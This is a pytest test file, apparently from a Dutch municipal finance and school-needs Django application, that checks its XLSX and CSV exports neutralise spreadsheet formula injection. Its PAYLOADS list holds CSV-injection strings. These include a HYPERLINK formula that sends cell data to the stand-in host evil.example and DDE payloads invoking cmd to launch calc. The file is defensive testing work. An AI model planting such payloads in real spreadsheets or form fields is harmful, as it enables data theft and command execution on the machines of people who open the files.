"""Every user text that reaches a spreadsheet is written as plain text: the report workbook,
the needs picture's workbook and its CSV, read back with openpyxl and csv.

Each payload is what OWASP lists as CSV injection: a text starting with =, +, -, @, a tab or
a carriage return. In XLSX it must be a string cell (never a formula cell); in CSV it must
start with an apostrophe. Amounts must stay numbers.
"""

import csv
import datetime
import io
from decimal import Decimal

from django.urls import reverse
from openpyxl import load_workbook

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&B6,"Klik hier")',
    "+31 6 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def payload(index: int) -> str:
    return PAYLOADS[index % len(PAYLOADS)]


def same_text(read: str, written: str) -> bool:
    # A spreadsheet stores line ends as "\n"; what matters is that the text arrives as text.
    return read.replace("\r\n", "\n").replace("\r", "\n") == written.replace("\r", "\n")


def cells_of(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_plain_text_in_xlsx(content: bytes, written: list[str]) -> None:
    cells = cells_of(content)
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    for text in written:
        assert any(same_text(value, text) for value in texts), text


def test_report_workbook_writes_every_user_text_as_a_string_cell(
    world, django_capture_on_commit_callbacks
):
    from finance.factories import AllocationFactory, ExpenditureFactory
    from plans.factories import InterventionFactory, PlanFactory, goal
    from reporting import services

    municipality = world.middelburg.municipality
    AllocationFactory(municipality=municipality, amount=Decimal("1000.00"))
    plan = PlanFactory(municipality=municipality, title=payload(0))
    intervention = InterventionFactory(
        plan=plan, code=payload(1)[:20], title=payload(2), goal=goal("bovenschools")
    )
    ExpenditureFactory(
        municipality=municipality,
        intervention=intervention,
        goal=goal("bovenschools"),
        date=datetime.date(2022, 3, 1),
        amount=Decimal("12.50"),
        description=payload(3),
    )
    ExpenditureFactory(  # before the period: listed with its reason in the workbook
        municipality=municipality,
        goal=goal("bovenschools"),
        date=datetime.date(2021, 6, 1),
        amount=Decimal("7.25"),
        description=payload(4),
    )
    with django_capture_on_commit_callbacks(execute=True):
        report = services.start_report(
            municipality=municipality,
            year=2021,
            user=world.middelburg.finance_officer,
            # The issue's own example: an explanation that starts with "=" (openpyxl makes
            # any such text a formula unless the cell's type says string).
            explanation=payload(0),
        )
    report.refresh_from_db()
    assert report.status == "klaar", report.failure_reason
    with report.xlsx.open("rb") as stored:
        content = stored.read()
    assert_plain_text_in_xlsx(content, [payload(1)[:20], payload(2), payload(4), payload(0)])
    amounts = [cell.value for cell in cells_of(content) if cell.data_type == "n"]
    assert 7.25 in amounts


def needs_round_full_of_payloads(world):
    from plans.models import MenuItem
    from schools.factories import NeedsAnswerFactory, NeedsRoundFactory, SchoolFactory
    from schools.models import QuestionAnswer, RoundQuestion

    needs_round = NeedsRoundFactory(municipality=world.middelburg.municipality)
    question = RoundQuestion.objects.create(round=needs_round, text=payload(0))
    school = SchoolFactory(
        municipality=world.middelburg.municipality,
        board=world.middelburg.school.board,
        name=payload(1),
    )
    answer = NeedsAnswerFactory(
        round=needs_round,
        school=school,
        submitted=True,
        free_text=payload(2),
        needs=[(payload(3), ["bovenschools"])],
    )
    QuestionAnswer.objects.create(answer=answer, question=question, text=payload(4))
    answer.menu_items.add(MenuItem.objects.first())
    board = school.board
    board.name = payload(5)
    board.save()
    return needs_round, [payload(i) for i in range(6)]


def test_needs_picture_workbook_writes_every_user_text_as_a_string_cell(client, world):
    needs_round, written = needs_round_full_of_payloads(world)
    client.force_login(world.middelburg.policy_officer)
    response = client.get(reverse("schools:picture-xlsx", args=[needs_round.pk]))
    assert response.status_code == 200
    assert_plain_text_in_xlsx(response.content, written)


def test_needs_picture_csv_prefixes_every_formula_like_text(client, world):
    needs_round, written = needs_round_full_of_payloads(world)
    client.force_login(world.middelburg.policy_officer)
    response = client.get(reverse("schools:picture-csv", args=[needs_round.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    fields = [field for row in rows for field in row]
    for text in written:
        assert any(same_text(field, "'" + text) for field in fields), text
    triggers = ("=", "+", "-", "@", "\t", "\r")
    assert [field for field in fields if field.startswith(triggers)] == []
